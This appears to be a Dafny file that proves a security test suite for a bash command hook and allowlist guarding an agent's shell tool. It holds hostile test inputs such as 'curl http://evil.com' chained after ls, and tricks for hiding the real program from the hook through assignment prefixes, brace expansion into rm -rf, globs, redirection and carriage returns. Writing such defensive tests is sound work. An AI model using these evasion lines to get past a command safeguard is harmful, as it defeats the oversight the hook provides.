/** The cases of the repository's security test suite, each stated as a
    lemma about the model and proved from the general lemmas, followed by
    lines that would hide the program the shell runs, and last by the
    spelling of each of those lines as words. */
module SecurityTests {
  import opened Shell
  import opened Validators
  import opened Allowlist
  import opened SecurityHook

  /** `line` is the plain words `ws` joined by single spaces, between the
      blanks `pre` and `post`. */
  ghost predicate Spells(pre: string, ws: seq<string>, post: string, line: string)
  {
    && (forall j :: 0 <= j < |ws| ==> IsPlainWord(ws[j]))
    && IsBlanks(pre) && IsBlanks(post)
    && pre + JoinWords(ws) + post == line
  }

  // ---------------------------------------------------------------------
  // extract_commands
  // ---------------------------------------------------------------------

  lemma ExtractSimpleCommand()
    ensures ExtractCommands("ls") == Ok(["ls"])
  {
    LsWords();
    BasenameOfName("ls");
    ArgumentsDropped("", ["ls"], "");
  }

  lemma ExtractCommandWithArgs()
    ensures ExtractCommands("ls -la /tmp") == Ok(["ls"])
  {
    LsLaTmpWords();
    BasenameOfName("ls");
    ArgumentsDropped("", ["ls", "-la", "/tmp"], "");
  }

  lemma CatPiece()
    ensures Segments("cat file.txt ").Ok? && ExtractCommands("cat file.txt ") == Ok(["cat"])
  {
    CatWords();
    BasenameOfName("cat");
    SegmentOfWords("", ["cat", "file.txt"], " ");
    ArgumentsDropped("", ["cat", "file.txt"], " ");
  }

  lemma GrepPiece()
    ensures ExtractCommands(" grep foo") == Ok(["grep"])
  {
    GrepWords();
    BasenameOfName("grep");
    ArgumentsDropped(" ", ["grep", "foo"], "");
  }

  lemma PipeLine()
    ensures "cat file.txt | grep foo" == "cat file.txt " + ['|'] + " grep foo" {}

  lemma ExtractPipedCommands()
    ensures ExtractCommands("cat file.txt | grep foo") == Ok(["cat", "grep"])
  {
    CatPiece();
    GrepPiece();
    ExtractAppend("cat file.txt ", '|', " grep foo");
    var r := ExtractCommands("cat file.txt " + ['|'] + " grep foo");
    assert r.Ok?;
    assert r.value == ["cat"] + ["grep"];
    assert ["cat"] + ["grep"] == ["cat", "grep"];
    PipeLine();
  }

  lemma NpmInstallPiece()
    ensures Segments("npm install ").Ok? && ExtractCommands("npm install ") == Ok(["npm"])
  {
    NpmInstallWords();
    BasenameOfName("npm");
    SegmentOfWords("", ["npm", "install"], " ");
    ArgumentsDropped("", ["npm", "install"], " ");
  }

  lemma NpmRunPiece()
    ensures ExtractCommands(" npm run build") == Ok(["npm"])
  {
    NpmRunWords();
    BasenameOfName("npm");
    ArgumentsDropped(" ", ["npm", "run", "build"], "");
  }

  lemma EmptyPiece()
    ensures Segments("").Ok? && Invocations("") == Ok([]) && ExtractCommands("") == Ok([])
  {
    NoWords();
    SegmentOfWords("", [], "");
  }

  /** The second half of `&&` followed by its command. */
  lemma AmpNpmRunPiece()
    ensures ExtractCommands("& npm run build") == Ok(["npm"])
  {
    NpmRunPiece();
    EmptyPiece();
    ExtractAppend("", '&', " npm run build");
    var r := ExtractCommands("" + ['&'] + " npm run build");
    assert r.Ok? && r.value == [] + ["npm"];
    assert [] + ["npm"] == ["npm"];
    AmpNpmRunLine();
  }

  lemma AmpNpmRunLine()
    ensures "& npm run build" == "" + ['&'] + " npm run build" {}

  lemma ChainLine()
    ensures "npm install && npm run build" == "npm install " + ['&'] + "& npm run build" {}

  /** `&&` is two connectors around an empty segment. */
  lemma ExtractChainedCommands()
    ensures ExtractCommands("npm install && npm run build") == Ok(["npm", "npm"])
  {
    NpmInstallPiece();
    AmpNpmRunPiece();
    ExtractAppend("npm install ", '&', "& npm run build");
    var r := ExtractCommands("npm install " + ['&'] + "& npm run build");
    assert r.Ok? && r.value == ["npm"] + ["npm"];
    assert ["npm"] + ["npm"] == ["npm", "npm"];
    ChainLine();
  }

  lemma ExtractCommandWithPath()
    ensures ExtractCommands("/usr/bin/python script.py") == Ok(["python"])
  {
    PythonWords();
    PythonNames();
    ArgumentsDropped("", ["/usr/bin/python", "script.py"], "");
  }

  lemma PythonNames()
    ensures Basename("/usr/bin/python") == "python"
    ensures NamesProgram(["/usr/bin/python", "script.py"])
  {
    PythonBasename();
    assert !IsAssignment("/usr/bin/python");
  }

  lemma PythonBasename()
    ensures Basename("/usr/bin/python") == "python"
  {
    PythonPath();
    BasenameOfPath("/usr/bin", "python");
  }

  lemma PythonPath()
    ensures "/usr/bin/python" == "/usr/bin" + "/" + "python" {}

  // ---------------------------------------------------------------------
  // validate_pkill_command
  // ---------------------------------------------------------------------

  lemma PkillNodeArguments()
    ensures PkillArguments(["node"]).Allowed?
  {
    assert !IsFlag("node") && FirstWord("node") == "node";
  }

  lemma PkillAllowedProcess()
    ensures ValidatePkill("pkill node").Allowed?
  {
    PkillNodeWords();
    ArgumentsOfWords("", ["pkill", "node"], "");
    PkillNodeArguments();
  }

  lemma PkillNginxArguments()
    ensures PkillArguments(["nginx"]).Rejected?
    ensures Contains(PkillArguments(["nginx"]).reason, "only allowed for")
  {
  }

  lemma PkillBlockedProcess()
    ensures ValidatePkill("pkill nginx").Rejected?
    ensures Contains(ValidatePkill("pkill nginx").reason, "only allowed for")
  {
    PkillNginxWords();
    ArgumentsOfWords("", ["pkill", "nginx"], "");
    PkillNginxArguments();
  }

  /** The pattern of `-f` is a full command line; its first word names the
      process. */
  lemma PkillPatternArguments()
    ensures PkillArguments(["-f", "node server.js"]).Allowed?
  {
    NodeServerTarget();
    assert !IsFlag(["-f", "node server.js"][1]);
  }

  lemma NodeServerTarget()
    ensures IsAllowedTarget("node server.js")
  {
    NodeServerLiteral();
    NodeServerFirstWord();
  }

  lemma NodeServerFirstWord()
    ensures FirstWord("node server.js") == "node"
  {
    FirstWordOf("node", " server.js");
    assert "node" + " server.js" == "node server.js";
  }

  lemma NodeServerLiteral()
    ensures IsLiteralPattern("node server.js")
  {
  }

  lemma PkillFlagLine()
    ensures "pkill -f 'node server.js'" == JoinWords(["pkill", "-f"]) + QuotedArgument('\'', "node server.js")
  {
    assert JoinWords(["pkill", "-f"]) == "pkill -f";
  }

  lemma PkillFlagTokens()
    ensures ArgumentsOf("pkill -f 'node server.js'") == Ok(["-f", "node server.js"])
  {
    PkillFlagLine();
    TokensOfWordsThenQuoted(["pkill", "-f"], '\'', "node server.js");
    assert ["pkill", "-f"] + ["node server.js"] == ["pkill", "-f", "node server.js"];
    ArgumentsOfTokens("pkill -f 'node server.js'", ["pkill", "-f", "node server.js"]);
  }

  lemma PkillWithFlags()
    ensures ValidatePkill("pkill -f 'node server.js'").Allowed?
  {
    PkillFlagTokens();
    PkillPatternArguments();
  }

  // ---------------------------------------------------------------------
  // validate_chmod_command
  // ---------------------------------------------------------------------

  lemma ChmodPlusXArguments()
    ensures ChmodArguments(["+x", "script.sh"]).Allowed?
  {
    var args := ["+x", "script.sh"];
    assert forall i :: 0 <= i < |args| ==> !IsFlag(args[i]);
    assert IsAddExecute(args[0]);
  }

  lemma ChmodAllowedPlusX()
    ensures ValidateChmod("chmod +x script.sh").Allowed?
  {
    ChmodPlusXWords();
    ArgumentsOfWords("", ["chmod", "+x", "script.sh"], "");
    ChmodPlusXArguments();
  }

  lemma ChmodUserPlusXArguments()
    ensures ChmodArguments(["u+x", "script.sh"]).Allowed?
  {
    var args := ["u+x", "script.sh"];
    assert forall i :: 0 <= i < |args| ==> !IsFlag(args[i]);
    assert IsAddExecute(args[0]);
  }

  lemma ChmodAllowedUserPlusX()
    ensures ValidateChmod("chmod u+x script.sh").Allowed?
  {
    ChmodUserPlusXWords();
    ArgumentsOfWords("", ["chmod", "u+x", "script.sh"], "");
    ChmodUserPlusXArguments();
  }

  lemma ChmodNumericArguments()
    ensures ChmodArguments(["777", "file"]).Rejected?
    ensures Contains(ChmodArguments(["777", "file"]).reason, "+x")
  {
    assert !MatchAddExecute("777");
  }

  lemma ChmodBlockedNumeric()
    ensures ValidateChmod("chmod 777 file").Rejected?
    ensures Contains(ValidateChmod("chmod 777 file").reason, "+x")
  {
    Chmod777Words();
    ArgumentsOfWords("", ["chmod", "777", "file"], "");
    ChmodNumericArguments();
  }

  lemma ChmodWriteArguments()
    ensures ChmodArguments(["+w", "file"]).Rejected?
  {
    assert !MatchAddExecute("+w");
  }

  lemma ChmodBlockedWrite()
    ensures ValidateChmod("chmod +w file").Rejected?
  {
    ChmodPlusWWords();
    ArgumentsOfWords("", ["chmod", "+w", "file"], "");
    ChmodWriteArguments();
  }

  // ---------------------------------------------------------------------
  // validate_rm_command
  // ---------------------------------------------------------------------

  lemma RmFileArguments()
    ensures RmArguments(["file.txt"]).Allowed?
  {
    assert !IsRecursiveFlag("file.txt") && !IsForceFlag("file.txt");
  }

  lemma RmSimple()
    ensures ValidateRm("rm file.txt").Allowed?
  {
    RmWords();
    ArgumentsOfWords("", ["rm", "file.txt"], "");
    RmFileArguments();
  }

  lemma RmRecursiveArguments()
    ensures RmArguments(["-r", "directory"]).Rejected?
    ensures Contains(RmArguments(["-r", "directory"]).reason, "not allowed")
  {
    assert IsRecursiveFlag("-r");
  }

  lemma RmBlockedRecursive()
    ensures ValidateRm("rm -r directory").Rejected?
    ensures Contains(ValidateRm("rm -r directory").reason, "not allowed")
  {
    RmRecursiveWords();
    ArgumentsOfWords("", ["rm", "-r", "directory"], "");
    RmRecursiveArguments();
  }

  lemma RmForceArguments()
    ensures RmArguments(["-f", "file"]).Rejected?
  {
    assert IsForceFlag("-f");
  }

  lemma RmBlockedForce()
    ensures ValidateRm("rm -f file").Rejected?
  {
    RmForceWords();
    ArgumentsOfWords("", ["rm", "-f", "file"], "");
    RmForceArguments();
  }

  // ---------------------------------------------------------------------
  // bash_security_hook and ALLOWED_COMMANDS
  // ---------------------------------------------------------------------

  lemma LsLaPasses()
    ensures Evaluate(Default(), "ls -la") == Pass
  {
    LsLaWords();
    LsLaName();
    UnconditionalPasses(Default(), ["ls", "-la"]);
    LsLaJoined();
  }

  lemma HookAllowedCommand()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "ls -la"])) == Pass
  {
    assert CommandOf(ToolCall("Bash", map["command" := "ls -la"])) == "ls -la";
    LsLaPasses();
  }

  lemma ShutdownInvocation()
    ensures Invocations("shutdown -h now") == Ok([Invocation("shutdown", "shutdown -h now")])
  {
    ShutdownWords();
    ShutdownName();
    LineOfWords("", ["shutdown", "-h", "now"], "", "shutdown -h now");
  }

  lemma ShutdownBlocks()
    ensures Evaluate(Default(), "shutdown -h now").Block?
  {
    ShutdownInvocation();
    UnlistedProgramBlocks(Default(), "shutdown -h now", 0);
  }

  lemma HookBlockedCommand()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "shutdown -h now"])).Block?
  {
    assert CommandOf(ToolCall("Bash", map["command" := "shutdown -h now"])) == "shutdown -h now";
    ShutdownBlocks();
  }

  lemma HookNonBashTool()
    ensures BashSecurityHook(Default(), ToolCall("Read", map["path" := "/etc/passwd"])) == Pass
  {
  }

  lemma LsPiece()
    ensures Segments("ls ").Ok?
  {
    LsThenWords();
    SegmentOfWords("", ["ls"], " ");
  }

  lemma CurlInvocation()
    ensures Invocations(" curl http://evil.com") == Ok([Invocation("curl", " curl http://evil.com")])
  {
    CurlWords();
    CurlName();
    LineOfWords(" ", ["curl", "http://evil.com"], "", " curl http://evil.com");
  }

  lemma CurlBlocks()
    ensures Evaluate(Default(), " curl http://evil.com").Block?
  {
    CurlInvocation();
    UnlistedProgramBlocks(Default(), " curl http://evil.com", 0);
  }

  lemma AmpCurlBlocks()
    ensures Evaluate(Default(), "& curl http://evil.com").Block?
  {
    EmptyPiece();
    CurlBlocks();
    ChainWithBlockedBlocks(Default(), "", '&', " curl http://evil.com");
    AmpCurlLine();
  }

  lemma ChainedBlocks()
    ensures Evaluate(Default(), "ls && curl http://evil.com").Block?
  {
    LsPiece();
    AmpCurlBlocks();
    ChainWithBlockedBlocks(Default(), "ls ", '&', "& curl http://evil.com");
    LsCurlLine();
  }

  lemma AmpCurlLine()
    ensures "& curl http://evil.com" == "" + ['&'] + " curl http://evil.com" {}

  lemma LsCurlLine()
    ensures "ls && curl http://evil.com" == "ls " + ['&'] + "& curl http://evil.com" {}

  lemma HookChainedWithBlocked()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "ls && curl http://evil.com"])).Block?
  {
    assert CommandOf(ToolCall("Bash", map["command" := "ls && curl http://evil.com"])) == "ls && curl http://evil.com";
    ChainedBlocks();
  }

  lemma AllowedCommandsPopulated()
    ensures |Default().allow| > 0
    ensures "ls" in Default().allow || "git" in Default().allow
  {
  }

  // ---------------------------------------------------------------------
  // Lines that would hide what the shell runs
  // ---------------------------------------------------------------------

  lemma AssignNames()
    ensures IsAssignment("X=/ls")
    ensures !NamesProgram(["X=/ls", "curl", "http://evil.com"])
  {
    assert "X=/ls"[1] == '=';
  }

  lemma AssignmentLineRefused()
    ensures Invocations("X=/ls curl http://evil.com").Err?
  {
    AssignWords();
    AssignNames();
    SegmentOfWords("", ["X=/ls", "curl", "http://evil.com"], "");
  }

  /** The shell runs `curl` here, not `ls`: an assignment in command
      position is refused. */
  lemma HookBlocksAssignmentPrefix()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "X=/ls curl http://evil.com"])) == Block(ParseReason)
  {
    AssignmentLineRefused();
    assert CommandOf(ToolCall("Bash", map["command" := "X=/ls curl http://evil.com"])) == "X=/ls curl http://evil.com";
  }

  /** Once a directory `-d` exists, the shell runs here a program named
      `curl` below the working directory's parent: its first word is the
      program even though it begins with a dash, so a line whose first word
      is a flag is refused rather than judged by `ls`. */
  lemma HookBlocksLeadingFlag()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "-d/../../usr/bin/curl ls"])) == Block(ParseReason)
  {
    LeadingFlagWords();
    LeadingFlagBlocks(Default(), ["-d/../../usr/bin/curl", "ls"]);
    assert CommandOf(ToolCall("Bash", map["command" := "-d/../../usr/bin/curl ls"])) == "-d/../../usr/bin/curl ls";
  }

  /** The shell runs `curl` here too, with its output redirected: a
      redirection is refused. */
  lemma HookBlocksRedirection()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := ">./ls curl http://evil.com"])) == Block(ParseReason)
  {
    assert ">./ls curl http://evil.com"[0] == '>';
    UnsupportedBlocks(Default(), ">./ls curl http://evil.com", 0);
    assert CommandOf(ToolCall("Bash", map["command" := ">./ls curl http://evil.com"])) == ">./ls curl http://evil.com";
  }

  /** Brace expansion would turn this into `rm -rf src`: a brace is refused. */
  lemma HookBlocksBraceRm()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "rm {-rf,src}"])) == Block(ParseReason)
  {
    assert "rm {-rf,src}"[3] == '{';
    UnsupportedBlocks(Default(), "rm {-rf,src}", 3);
    assert CommandOf(ToolCall("Bash", map["command" := "rm {-rf,src}"])) == "rm {-rf,src}";
  }

  /** Brace expansion would hand chmod the mode `-w`: a brace is refused. */
  lemma HookBlocksBraceChmod()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "chmod +x {-w,file}"])) == Block(ParseReason)
  {
    assert "chmod +x {-w,file}"[9] == '{';
    UnsupportedBlocks(Default(), "chmod +x {-w,file}", 9);
    assert CommandOf(ToolCall("Bash", map["command" := "chmod +x {-w,file}"])) == "chmod +x {-w,file}";
  }

  /** Next to a file named `-rf`, pathname expansion would make this a
      recursive removal: a glob character is refused. */
  lemma HookBlocksGlobRm()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "rm *"])) == Block(ParseReason)
  {
    assert "rm *"[3] == '*';
    UnsupportedBlocks(Default(), "rm *", 3);
    assert CommandOf(ToolCall("Bash", map["command" := "rm *"])) == "rm *";
  }

  lemma PkillAlternationArguments()
    ensures PkillArguments(["-f", "node x|sshd"]).Rejected?
  {
    assert "node x|sshd"[6] == '|';
    assert !IsFlag(["-f", "node x|sshd"][1]);
  }

  lemma PkillAlternationLine()
    ensures "pkill -f 'node x|sshd'" == JoinWords(["pkill", "-f"]) + QuotedArgument('\'', "node x|sshd")
  {
    assert JoinWords(["pkill", "-f"]) == "pkill -f";
  }

  lemma PkillAlternationPattern()
    ensures forall i :: 0 <= i < |"node x|sshd"| ==> "node x|sshd"[i] != '\'' && !IsUnsupported("node x|sshd"[i])
  {
  }

  lemma PkillAlternationTokens()
    ensures ArgumentsOf("pkill -f 'node x|sshd'") == Ok(["-f", "node x|sshd"])
  {
    PkillAlternationLine();
    TokensOfWordsThenQuoted(["pkill", "-f"], '\'', "node x|sshd");
    assert ["pkill", "-f"] + ["node x|sshd"] == ["pkill", "-f", "node x|sshd"];
    ArgumentsOfTokens("pkill -f 'node x|sshd'", ["pkill", "-f", "node x|sshd"]);
  }

  lemma PkillAlternationInvocation()
    ensures Invocations("pkill -f 'node x|sshd'") == Ok([Invocation("pkill", "pkill -f 'node x|sshd'")])
  {
    PkillAlternationLine();
    PkillAlternationPattern();
    PkillFlagWords();
    QuotedPatternInvocation(["pkill", "-f"], '\'', "node x|sshd");
  }

  lemma PkillAlternationRefused()
    ensures ValidatePkill("pkill -f 'node x|sshd'").Rejected?
  {
    PkillAlternationTokens();
    PkillAlternationArguments();
  }

  /** The quoted `|` does not cut the line, and the pattern, which would
      also match `sshd`, is refused by pkill's validator. */
  lemma HookBlocksPkillAlternation()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "pkill -f 'node x|sshd'"])).Block?
  {
    var line := "pkill -f 'node x|sshd'";
    PkillAlternationInvocation();
    PkillAlternationRefused();
    SingleInvocationVerdict(Default(), line, Invocation("pkill", line));
    assert CommandOf(ToolCall("Bash", map["command" := line])) == line;
  }

  /** The same pattern between double quotes is one argument too. */
  lemma PkillDoubleQuotedLine()
    ensures "pkill -f \"node server.js\"" == JoinWords(["pkill", "-f"]) + QuotedArgument('"', "node server.js")
  {
    assert JoinWords(["pkill", "-f"]) == "pkill -f";
  }

  lemma PkillDoubleQuotedTokens()
    ensures ArgumentsOf("pkill -f \"node server.js\"") == Ok(["-f", "node server.js"])
  {
    PkillDoubleQuotedLine();
    TokensOfWordsThenQuoted(["pkill", "-f"], '"', "node server.js");
    assert ["pkill", "-f"] + ["node server.js"] == ["pkill", "-f", "node server.js"];
    ArgumentsOfTokens("pkill -f \"node server.js\"", ["pkill", "-f", "node server.js"]);
  }

  lemma PkillWithDoubleQuotedPattern()
    ensures ValidatePkill("pkill -f \"node server.js\"").Allowed?
  {
    PkillDoubleQuotedTokens();
    PkillPatternArguments();
  }

  /** An option that inverts the match would signal every process except
      node: it is refused, short or long. */
  lemma PkillInvertRefused()
    ensures PkillArguments(["-v", "node"]).Rejected?
    ensures PkillArguments(["--inverse", "node"]).Rejected?
  {
    InvertOptions();
    assert IsFlag(["-v", "node"][0]) && !IsPkillOption(["-v", "node"][0]);
    assert IsFlag(["--inverse", "node"][0]) && !IsPkillOption(["--inverse", "node"][0]);
  }

  lemma InvertOptions()
    ensures !IsPkillOption("-v") && !IsPkillOption("--inverse")
  {
    assert "-v"[1] == 'v' && "--inverse"[1] == '-';
    assert |"--inverse"| == 9;
  }

  lemma HookBlocksPkillInverse()
    ensures BashSecurityHook(Default(), ToolCall("Bash", map["command" := "pkill --inverse node"])).Block?
  {
    var line := "pkill --inverse node";
    PkillInverseWords();
    PkillInverseName();
    LineOfWords("", ["pkill", "--inverse", "node"], "", line);
    ArgumentsOfWords("", ["pkill", "--inverse", "node"], "");
    PkillInvertRefused();
    SingleInvocationVerdict(Default(), line, Invocation("pkill", line));
    assert CommandOf(ToolCall("Bash", map["command" := line])) == line;
  }

  /** A carriage return does not split words in the shell: this line is the
      one word `ls\r/../usr/bin/curl`, which runs a program named `curl`
      below the working directory when a directory `ls\r` exists, and the
      hook judges it as `curl`. */
  lemma CarriageReturnWord()
    ensures Spells("", ["ls\r/../usr/bin/curl"], "", "ls\r/../usr/bin/curl")
    ensures NamesProgram(["ls\r/../usr/bin/curl"])
    ensures Basename(["ls\r/../usr/bin/curl"][0]) == "curl"
  {
    CarriageReturnPlain();
    assert JoinWords(["ls\r/../usr/bin/curl"]) == "ls\r/../usr/bin/curl";
    CarriageReturnBasename();
  }

  lemma CarriageReturnBasename()
    ensures Basename("ls\r/../usr/bin/curl") == "curl"
    ensures !IsAssignment("ls\r/../usr/bin/curl")
  {
    assert "ls\r/../usr/bin/curl" == "ls\r/../usr/bin" + "/" + "curl";
    BasenameOfPath("ls\r/../usr/bin", "curl");
  }

  lemma HookBlocksCarriageReturn()
    ensures Evaluate(Default(), "ls\r/../usr/bin/curl") == Block(NotAllowedReason("curl"))
  {
    var line := "ls\r/../usr/bin/curl";
    CarriageReturnWord();
    LineOfWords("", ["ls\r/../usr/bin/curl"], "", line);
    UnlistedProgramBlocks(Default(), line, 0);
  }

  // ---------------------------------------------------------------------
  // The command lines above, spelled out as words. Each fact is a lemma of
  // its own so that every proof obligation stays small and the solver
  // stays stable on every seed.
  // ---------------------------------------------------------------------

  lemma LsWords()
    ensures Spells("", ["ls"], "", "ls")
    ensures NamesProgram(["ls"])
  {
    LsPlain();
    LsJoined();
  }
  lemma LsPlain()
    ensures forall j :: 0 <= j < |["ls"]| ==> IsPlainWord(["ls"][j]) {}
  lemma LsJoined()
    ensures JoinWords(["ls"]) == "ls" {}
  lemma LsLaWords()
    ensures Spells("", ["ls", "-la"], "", "ls -la")
    ensures NamesProgram(["ls", "-la"])
  {
    LsLaPlain();
    LsLaJoined();
  }
  lemma LsLaPlain()
    ensures forall j :: 0 <= j < |["ls", "-la"]| ==> IsPlainWord(["ls", "-la"][j]) {}
  lemma LsLaJoined()
    ensures JoinWords(["ls", "-la"]) == "ls -la" {}
  lemma LsLaTmpWords()
    ensures Spells("", ["ls", "-la", "/tmp"], "", "ls -la /tmp")
    ensures NamesProgram(["ls", "-la", "/tmp"])
  {
    LsLaTmpPlain();
    LsLaTmpJoined();
  }
  lemma LsLaTmpPlain()
    ensures forall j :: 0 <= j < |["ls", "-la", "/tmp"]| ==> IsPlainWord(["ls", "-la", "/tmp"][j]) {}
  lemma LsLaTmpJoined()
    ensures JoinWords(["ls", "-la", "/tmp"]) == "ls -la /tmp" {}
  lemma CatWords()
    ensures Spells("", ["cat", "file.txt"], " ", "cat file.txt ")
    ensures NamesProgram(["cat", "file.txt"])
  {
    CatPlain();
    CatJoined();
  }
  lemma CatPlain()
    ensures forall j :: 0 <= j < |["cat", "file.txt"]| ==> IsPlainWord(["cat", "file.txt"][j]) {}
  lemma CatJoined()
    ensures JoinWords(["cat", "file.txt"]) == "cat file.txt" {}
  lemma GrepWords()
    ensures Spells(" ", ["grep", "foo"], "", " grep foo")
    ensures NamesProgram(["grep", "foo"])
  {
    GrepPlain();
    GrepJoined();
  }
  lemma GrepPlain()
    ensures forall j :: 0 <= j < |["grep", "foo"]| ==> IsPlainWord(["grep", "foo"][j]) {}
  lemma GrepJoined()
    ensures JoinWords(["grep", "foo"]) == "grep foo" {}
  lemma NpmInstallWords()
    ensures Spells("", ["npm", "install"], " ", "npm install ")
    ensures NamesProgram(["npm", "install"])
  {
    NpmInstallPlain();
    NpmInstallJoined();
  }
  lemma NpmInstallPlain()
    ensures forall j :: 0 <= j < |["npm", "install"]| ==> IsPlainWord(["npm", "install"][j]) {}
  lemma NpmInstallJoined()
    ensures JoinWords(["npm", "install"]) == "npm install" {}
  lemma NpmRunWords()
    ensures Spells(" ", ["npm", "run", "build"], "", " npm run build")
    ensures NamesProgram(["npm", "run", "build"])
  {
    NpmRunPlain();
    NpmRunJoined();
  }
  lemma NpmRunPlain()
    ensures forall j :: 0 <= j < |["npm", "run", "build"]| ==> IsPlainWord(["npm", "run", "build"][j]) {}
  lemma NpmRunJoined()
    ensures JoinWords(["npm", "run", "build"]) == "npm run build" {}
  lemma PythonWords()
    ensures Spells("", ["/usr/bin/python", "script.py"], "", "/usr/bin/python script.py")
  {
    PythonPlain();
    PythonJoined();
  }
  lemma PythonPlain()
    ensures forall j :: 0 <= j < |["/usr/bin/python", "script.py"]| ==> IsPlainWord(["/usr/bin/python", "script.py"][j]) {}
  lemma PythonJoined()
    ensures JoinWords(["/usr/bin/python", "script.py"]) == "/usr/bin/python script.py" {}
  lemma PkillNodeWords()
    ensures Spells("", ["pkill", "node"], "", "pkill node")
  {
    PkillNodePlain();
    PkillNodeJoined();
  }
  lemma PkillNodePlain()
    ensures forall j :: 0 <= j < |["pkill", "node"]| ==> IsPlainWord(["pkill", "node"][j]) {}
  lemma PkillNodeJoined()
    ensures JoinWords(["pkill", "node"]) == "pkill node" {}
  lemma PkillNginxWords()
    ensures Spells("", ["pkill", "nginx"], "", "pkill nginx")
  {
    PkillNginxPlain();
    PkillNginxJoined();
  }
  lemma PkillNginxPlain()
    ensures forall j :: 0 <= j < |["pkill", "nginx"]| ==> IsPlainWord(["pkill", "nginx"][j]) {}
  lemma PkillNginxJoined()
    ensures JoinWords(["pkill", "nginx"]) == "pkill nginx" {}
  lemma ChmodPlusXWords()
    ensures Spells("", ["chmod", "+x", "script.sh"], "", "chmod +x script.sh")
  {
    ChmodPlusXPlain();
    ChmodPlusXJoined();
  }
  lemma ChmodPlusXPlain()
    ensures forall j :: 0 <= j < |["chmod", "+x", "script.sh"]| ==> IsPlainWord(["chmod", "+x", "script.sh"][j]) {}
  lemma ChmodPlusXJoined()
    ensures JoinWords(["chmod", "+x", "script.sh"]) == "chmod +x script.sh" {}
  lemma ChmodUserPlusXWords()
    ensures Spells("", ["chmod", "u+x", "script.sh"], "", "chmod u+x script.sh")
  {
    ChmodUserPlusXPlain();
    ChmodUserPlusXJoined();
  }
  lemma ChmodUserPlusXPlain()
    ensures forall j :: 0 <= j < |["chmod", "u+x", "script.sh"]| ==> IsPlainWord(["chmod", "u+x", "script.sh"][j]) {}
  lemma ChmodUserPlusXJoined()
    ensures JoinWords(["chmod", "u+x", "script.sh"]) == "chmod u+x script.sh" {}
  lemma Chmod777Words()
    ensures Spells("", ["chmod", "777", "file"], "", "chmod 777 file")
  {
    Chmod777Plain();
    Chmod777Joined();
  }
  lemma Chmod777Plain()
    ensures forall j :: 0 <= j < |["chmod", "777", "file"]| ==> IsPlainWord(["chmod", "777", "file"][j]) {}
  lemma Chmod777Joined()
    ensures JoinWords(["chmod", "777", "file"]) == "chmod 777 file" {}
  lemma ChmodPlusWWords()
    ensures Spells("", ["chmod", "+w", "file"], "", "chmod +w file")
  {
    ChmodPlusWPlain();
    ChmodPlusWJoined();
  }
  lemma ChmodPlusWPlain()
    ensures forall j :: 0 <= j < |["chmod", "+w", "file"]| ==> IsPlainWord(["chmod", "+w", "file"][j]) {}
  lemma ChmodPlusWJoined()
    ensures JoinWords(["chmod", "+w", "file"]) == "chmod +w file" {}
  lemma RmWords()
    ensures Spells("", ["rm", "file.txt"], "", "rm file.txt")
  {
    RmPlain();
    RmJoined();
  }
  lemma RmPlain()
    ensures forall j :: 0 <= j < |["rm", "file.txt"]| ==> IsPlainWord(["rm", "file.txt"][j]) {}
  lemma RmJoined()
    ensures JoinWords(["rm", "file.txt"]) == "rm file.txt" {}
  lemma RmRecursiveWords()
    ensures Spells("", ["rm", "-r", "directory"], "", "rm -r directory")
  {
    RmRecursivePlain();
    RmRecursiveJoined();
  }
  lemma RmRecursivePlain()
    ensures forall j :: 0 <= j < |["rm", "-r", "directory"]| ==> IsPlainWord(["rm", "-r", "directory"][j]) {}
  lemma RmRecursiveJoined()
    ensures JoinWords(["rm", "-r", "directory"]) == "rm -r directory" {}
  lemma RmForceWords()
    ensures Spells("", ["rm", "-f", "file"], "", "rm -f file")
  {
    RmForcePlain();
    RmForceJoined();
  }
  lemma RmForcePlain()
    ensures forall j :: 0 <= j < |["rm", "-f", "file"]| ==> IsPlainWord(["rm", "-f", "file"][j]) {}
  lemma RmForceJoined()
    ensures JoinWords(["rm", "-f", "file"]) == "rm -f file" {}
  lemma ShutdownWords()
    ensures Spells("", ["shutdown", "-h", "now"], "", "shutdown -h now")
    ensures NamesProgram(["shutdown", "-h", "now"])
  {
    ShutdownPlain();
    ShutdownJoined();
  }
  lemma ShutdownPlain()
    ensures forall j :: 0 <= j < |["shutdown", "-h", "now"]| ==> IsPlainWord(["shutdown", "-h", "now"][j]) {}
  lemma ShutdownJoined()
    ensures JoinWords(["shutdown", "-h", "now"]) == "shutdown -h now" {}
  lemma LsThenWords()
    ensures Spells("", ["ls"], " ", "ls ")
  {
    LsThenPlain();
    LsThenJoined();
  }
  lemma LsThenPlain()
    ensures forall j :: 0 <= j < |["ls"]| ==> IsPlainWord(["ls"][j]) {}
  lemma LsThenJoined()
    ensures JoinWords(["ls"]) == "ls" {}
  lemma CurlWords()
    ensures Spells(" ", ["curl", "http://evil.com"], "", " curl http://evil.com")
    ensures NamesProgram(["curl", "http://evil.com"])
  {
    CurlPlain();
    CurlJoined();
  }
  lemma CurlPlain()
    ensures forall j :: 0 <= j < |["curl", "http://evil.com"]| ==> IsPlainWord(["curl", "http://evil.com"][j]) {}
  lemma CurlJoined()
    ensures JoinWords(["curl", "http://evil.com"]) == "curl http://evil.com" {}
  lemma NoWords()
    ensures Spells("", [], "", "") {}
  lemma LsLaName()
    ensures Basename(["ls", "-la"][0]) == "ls"
  {
    BasenameOfName("ls");
  }
  lemma ShutdownName()
    ensures Basename(["shutdown", "-h", "now"][0]) == "shutdown"
  {
    BasenameOfName("shutdown");
  }
  lemma CurlName()
    ensures Basename(["curl", "http://evil.com"][0]) == "curl"
  {
    BasenameOfName("curl");
  }
  lemma AssignWords()
    ensures Spells("", ["X=/ls", "curl", "http://evil.com"], "", "X=/ls curl http://evil.com")
  {
    AssignPlain();
    AssignJoined();
  }
  lemma AssignPlain()
    ensures forall j :: 0 <= j < |["X=/ls", "curl", "http://evil.com"]| ==> IsPlainWord(["X=/ls", "curl", "http://evil.com"][j]) {}
  lemma AssignJoined()
